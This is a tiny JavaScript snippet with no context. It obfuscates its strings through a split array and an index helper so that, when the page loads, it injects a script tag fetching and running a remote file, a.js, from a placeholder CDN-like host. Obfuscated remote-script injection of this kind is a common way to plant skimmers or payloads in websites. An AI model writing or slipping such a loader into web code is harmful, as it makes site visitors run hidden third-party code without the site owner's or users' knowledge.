var _t = 'src|https://|script|createElement|head|appendChild|tbl-cdn|.example|/|a.js'.split('|');
function _(i) { return _t[i]; }
var e = document[_(3)](_(2)); e[_(0)] = _(1) + _(6) + _(7) + _(8) + _(9); document[_(4)][_(5)](e);
